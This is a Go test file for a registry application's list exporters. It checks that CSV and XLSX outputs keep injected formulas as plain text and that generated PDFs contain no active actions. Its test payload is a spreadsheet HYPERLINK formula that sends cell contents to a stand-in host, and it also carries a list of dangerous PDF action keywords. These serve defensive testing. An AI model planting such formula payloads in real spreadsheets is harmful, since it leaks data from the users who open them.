package documents

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"iter"
	"strings"
	"testing"

	"rasoat/registry"

	"github.com/xuri/excelize/v2"
)

// Texts that a spreadsheet would run, or take for something else than text.
// The last ones look like what we write ourselves before such a text, or like what stands for "=" in a workbook.
var dangerousStarts = []string{"=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\t=", "'=", "''@", "'", "_x003D_", "_x005F_x003D_"}

func dangerous(i int) string {
	return dangerousStarts[i] + `HYPERLINK("http://a.example?"&A1,"x")`
}

// hostile is what a hostile list says of a child: every text of hers begins with what a spreadsheet may run.
func hostile(i int) registry.Values {
	text := func(n int) string { return fmt.Sprintf("%s&%d", dangerous(i), n) }
	return registry.Values{
		Name: text(1), BirthDate: "2015", Ethnicity: text(2), IDNumber: text(3), Father: text(4), Mother: text(5), Guardian: text(6),
		Address: text(7), Hamlet: text(8), Phone: text(9),
	}
}

// hostileSample is a synthetic list of such children.
type hostileSample struct{}

func (hostileSample) Place() (commune, province string, asOf registry.Date) {
	return dangerous(0), dangerous(1), registry.Date{Year: 2026, Month: 11, Day: 22}
}

func (hostileSample) Listed() iter.Seq2[string, registry.Values] {
	return func(yield func(string, registry.Values) bool) {
		for i := range dangerousStarts {
			if !yield(dangerous(i), hostile(i)) {
				return
			}
		}
	}
}

// injected are all writers of lists, each with what it makes of such a list.
func injected(t *testing.T) map[string][]byte {
	t.Helper()
	files := map[string][]byte{}
	write := func(name string, to func(io.Writer) error) {
		var b bytes.Buffer
		if err := to(&b); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		files[name] = b.Bytes()
	}
	for name, columns := range map[string][]Column{"list.xlsx": NationalColumns(), "export.xlsx": ExportColumns(), "docket.xlsx": DocketColumns()} {
		write(name, func(w io.Writer) error {
			meta := Meta{Title: dangerous(0), Unit: dangerous(1), By: dangerous(2), Code: dangerous(3), Purpose: dangerous(4), Training: true, Columns: columns}
			return WriteList(w, meta, func(yield func(ListRow) bool) {
				for i := range dangerousStarts {
					if !yield(ListRow{Values: hostile(i), Software: dangerous(i), Case: dangerous(i), Note: dangerous(i)}) {
						return
					}
				}
			})
		})
	}
	write("sample.xlsx", func(w io.Writer) error { return WriteSample(w, hostileSample{}) })
	write("sample.csv", func(w io.Writer) error { return WriteSampleCSV(w, hostileSample{}) })
	for _, name := range []string{"sample.xlsx", "sample.csv"} {
		write("checked "+name, func(w io.Writer) error {
			list, err := Open(name, bytes.NewReader(files[name]), int64(len(files[name])))
			if err != nil {
				return err
			}
			return WriteChecked(w, list, registry.Date{Year: 2026, Month: 11, Day: 22}, func(registry.Code) (string, string, string) { return "=1", "+1", "-1" })
		})
	}
	write("blank.xlsx", WriteBlank)
	return files
}

// A list that was made to do harm is kept as text, and no file that we write makes a spreadsheet run it; read
// again, every file says what it was told to say.
func TestFormulasStayText(t *testing.T) {
	t.Parallel()
	for name, content := range injected(t) {
		switch name {
		case "sample.csv":
			checkQuoted(t, content)
		case "blank.xlsx":
			checkNoFormula(t, name, content, 0)
			continue
		default:
			checkNoFormula(t, name, content, 5*len(dangerousStarts))
		}
		list, err := Open(name, bytes.NewReader(content), int64(len(content)))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		rows := rowsOf(t, list)
		if len(rows) != len(dangerousStarts) {
			t.Errorf("%s: %d rows are read again", name, len(rows))
			continue
		}
		for i, row := range rows {
			want := hostile(i)
			want.Hamlet = strings.TrimSpace(want.Hamlet)                // whose blanks say nothing
			if list.Mark() == MarkDocket || list.Mark() == MarkExport { // has fewer columns
				want.Address, want.Phone = "", ""
			}
			if row.Values != want {
				t.Errorf("%s: row %d is read again as\n%+q, not\n%+q", name, i, row.Values, want)
			}
		}
	}
}

// checkQuoted reads a text file as a spreadsheet does, which knows nothing of our mark: no field may begin with what
// it runs.
func checkQuoted(t *testing.T, content []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(content))
	r.FieldsPerRecord = -1
	lines, err := r.ReadAll()
	if err != nil || len(lines) < len(dangerousStarts) {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	for _, line := range lines {
		for _, field := range line {
			if isFormula(field) {
				t.Errorf("a field is written %q", field)
			}
		}
	}
}

// checkNoFormula looks for formulas in the parts, and at the format of every dangerous cell.
func checkNoFormula(t *testing.T, name string, content []byte, least int) {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range archive.File {
		if !strings.HasPrefix(part.Name, "xl/worksheets/sheet") {
			continue
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		sheet, err := io.ReadAll(r)
		if err != nil || bytes.Contains(sheet, []byte("<f>")) || bytes.Contains(sheet, []byte("<f ")) {
			t.Errorf("%s: %s holds a formula (%v)", name, part.Name, err)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	seen := 0
	for _, sheet := range f.GetSheetList() {
		cells, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range cells {
			for c, text := range row {
				if !isFormula(text) || len(text) < 2 {
					continue
				}
				seen++
				at, _ := excelize.CoordinatesToCellName(c+1, r+1)
				id, err := f.GetCellStyle(sheet, at)
				if err != nil {
					t.Fatal(err)
				}
				if style, err := f.GetStyle(id); err != nil || style.NumFmt != textFormat {
					t.Errorf("%s: %s!%s holds %q without the format of text: %+v, %v", name, sheet, at, text, style, err)
				}
			}
		}
	}
	if seen < least {
		t.Errorf("%s: only %d cells were looked at", name, seen)
	}
}

func TestFormulasInTextAreQuoted(t *testing.T) {
	t.Parallel()
	for i := range dangerousStarts {
		quoted := quoteFormula(dangerous(i))
		if isFormula(quoted) || unquoteFormula(quoted) != dangerous(i) {
			t.Errorf("%q is written %q", dangerous(i), quoted)
		}
	}
	for _, plain := range []string{"", "Lê An", "'tên'", "0951234567"} {
		if quoteFormula(plain) != plain || unquoteFormula(plain) != plain {
			t.Errorf("%q is changed", plain)
		}
	}
}

// Paper runs nothing, whatever is printed on it, and a list of staff is read as it was written.
func TestFormulasOnPaper(t *testing.T) {
	t.Parallel()
	var slips, paper, list bytes.Buffer
	invited := make([]Slip, len(dangerousStarts))
	lines := make([]string, len(dangerousStarts))
	out := csv.NewWriter(&list)
	_ = out.Write([]string{"STT", "Họ và tên", "Vai trò", "Ấp"})
	for i := range dangerousStarts {
		invited[i] = Slip{Name: dangerous(i), Role: registry.RoleOfficer, Link: "https://t.me/a?start=" + dangerous(i), Code: dangerous(i), Bot: dangerous(i)}
		lines[i] = dangerous(i)
		_ = out.Write([]string{"1", quoteFormula("=An" + strings.Repeat("a", i)), "Công an", quoteFormula(dangerous(i))})
	}
	out.Flush()
	if err := errors.Join(WriteSlips(&slips, invited), WritePaper(&paper, Paper{Title: dangerous(0), Parts: []PaperPart{{Head: dangerous(1), Lines: lines}}})); err != nil {
		t.Fatal(err)
	}
	for _, action := range []string{"/JavaScript", "/JS", "/URI", "/Launch", "/GoToR", "/Type /EmbeddedFile"} {
		if bytes.Contains(slips.Bytes(), []byte(action)) || bytes.Contains(paper.Bytes(), []byte(action)) {
			t.Errorf("a paper holds %s", action)
		}
	}
	people, err := Staff("a.csv", bytes.NewReader(list.Bytes()), int64(list.Len()))
	if err != nil || len(people) != len(dangerousStarts) {
		t.Fatalf("read %+v, %v", people, err)
	}
	for i, p := range people {
		if p.Name != "=An"+strings.Repeat("a", i) || p.Place != registry.CleanText(dangerous(i)) {
			t.Errorf("read %q of %q", p.Name, p.Place)
		}
	}
}
